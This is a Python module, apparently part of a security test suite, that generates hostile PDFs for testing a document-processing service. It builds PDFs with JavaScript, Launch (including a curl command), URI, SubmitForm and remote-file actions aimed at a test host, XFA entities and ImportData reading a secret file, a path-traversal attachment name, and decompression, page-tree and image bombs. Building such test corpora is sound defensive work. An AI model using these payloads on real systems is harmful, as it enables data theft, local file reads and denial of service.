"""Hostile PDFs: actions, references outside, trees without end, pictures as bombs."""

from __future__ import annotations

import struct
import zlib

from integration.library.attackers.corpus import WORDS, Target, attack, entities


def pdf_of(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of numbered objects, with a table of where they lie."""
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return out + head + table + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(out))  # fmt: skip


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def page_pdf(catalogue: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = (), text: str = WORDS) -> bytes:
    """One page of words; ``extra`` are the objects from 6 on."""
    shown = b"BT /F1 12 Tf 50 700 Td (%s) Tj ET" % text.encode("cp1252")
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> %s >>" % page,
            stream(shown),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra,
        ]
    )  # fmt: skip


def _actions(target: Target) -> dict[str, bytes]:
    web, secret = target.web.encode(), target.secret.encode()
    return {
        "javascript": b"<< /S /JavaScript /JS (this.submitForm\\('%s/js'\\); app.launchURL\\('%s/js2'\\)) >>"
        % (web, web),
        "launch": b"<< /S /Launch /F (%s/launch) /Unix (curl %s/launch2) >>" % (web, web),
        "uri": b"<< /S /URI /URI (%s/uri) >>" % web,
        "submit": b"<< /S /SubmitForm /F << /FS /URL /F (%s/submit) >> >>" % web,
        "remote": b"<< /S /GoToR /F << /FS /URL /F (%s/other.pdf) >> /D [0 /Fit] >>" % web,
        "import": b"<< /S /ImportData /F (file://%s) >>" % secret,
    }


def _enter_action(name: str) -> None:
    @attack(f"{name}.pdf", leads=True, reads=True)
    def _(target: Target) -> bytes:
        action = _actions(target)[name]
        note = b"/AA << /O %s >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A %s >>]" % (
            action,
            action,
        )
        return page_pdf(b"/OpenAction %s /AA << /WC %s >>" % (action, action), note)


for _name in _actions(Target("", "", "")):
    _enter_action(_name)


@attack("external.pdf", leads=True)
def _(target: Target) -> bytes:
    address = b"<< /FS /URL /F (%s/stream) >>" % target.web.encode()
    secret = b"<< /F (file://%s) /Length 0 >>\nstream\n\nendstream" % target.secret.encode()
    image = b"<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /F %s /Length 0 >>\nstream\n\nendstream" % address
    used = b"/Resources << /Font << /F1 5 0 R >> /XObject << /I 6 0 R /J 7 0 R >> >>"
    return page_pdf(page=used, extra=(image, secret))


@attack("form.pdf", leads=True, reads=True)
def _(target: Target) -> bytes:
    form = (entities(target) + "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><x>&secret;&page;</x></xdp:xdp>").encode()
    return page_pdf(b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=(stream(form),))


@attack("attached.pdf", leads=True, reads=True)
def _(target: Target) -> bytes:
    inner = page_pdf(b"/OpenAction " + _actions(target)["uri"])
    names = b"/Names << /EmbeddedFiles << /Names [(../../evil.pdf) << /Type /Filespec /F (../../evil.pdf) /EF << /F 6 0 R >> >>] >> >>"
    return page_pdf(names, extra=(stream(inner, b"/Type /EmbeddedFile"),))


@attack("endless-tree.pdf")
def _(target: Target) -> bytes:
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 2147483647 >>", b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1000000 >>"])  # fmt: skip


@attack("huge-length.pdf")
def _(target: Target) -> bytes:
    return page_pdf().replace(b"/Length ", b"/Length 99999999999", 1)


@attack("many-pages.pdf")
def _(target: Target) -> bytes:
    kids = b"3 0 R " * 100_000
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % kids, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"])  # fmt: skip


@attack("bomb.pdf")
def _(target: Target) -> bytes:
    """Zeros, packed three times over, as a page's content."""
    data = zlib.compress(bytes(200 << 20), 9)
    for _ in range(2):
        data = zlib.compress(data, 9)
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>", stream(data, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]")])  # fmt: skip


def _picture_pdf(image: bytes) -> bytes:
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>",
            stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
            image,
        ]
    )


@attack("picture-bomb.pdf")
def _(target: Target) -> bytes:
    size = b"/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    return _picture_pdf(stream(zlib.compress(bytes(1 << 20), 9), size + b" /Filter /FlateDecode"))


@attack("jbig2.pdf")
def _(target: Target) -> bytes:
    region = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">IIIIBH", 60000, 60000, 0, 0, 0, 0)
    size = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 1"
    return _picture_pdf(stream(region, size + b" /Filter /JBIG2Decode"))


@attack("jpx.pdf")
def _(target: Target) -> bytes:
    siz = struct.pack(">HHHIIIIIIIIH", 0xFF51, 41, 0, 60000, 60000, 0, 0, 60000, 60000, 0, 0, 1) + b"\x07\x01\x01"
    size = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000"
    return _picture_pdf(stream(b"\xff\x4f" + siz + b"\xff\xd9", size + b" /Filter /JPXDecode"))


@attack("huge-page.pdf")
def _(target: Target) -> bytes:
    return _picture_pdf(stream(b"\0", b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8")).replace(b"[0 0 595 842]", b"[0 0 2000000 2000000]")  # fmt: skip
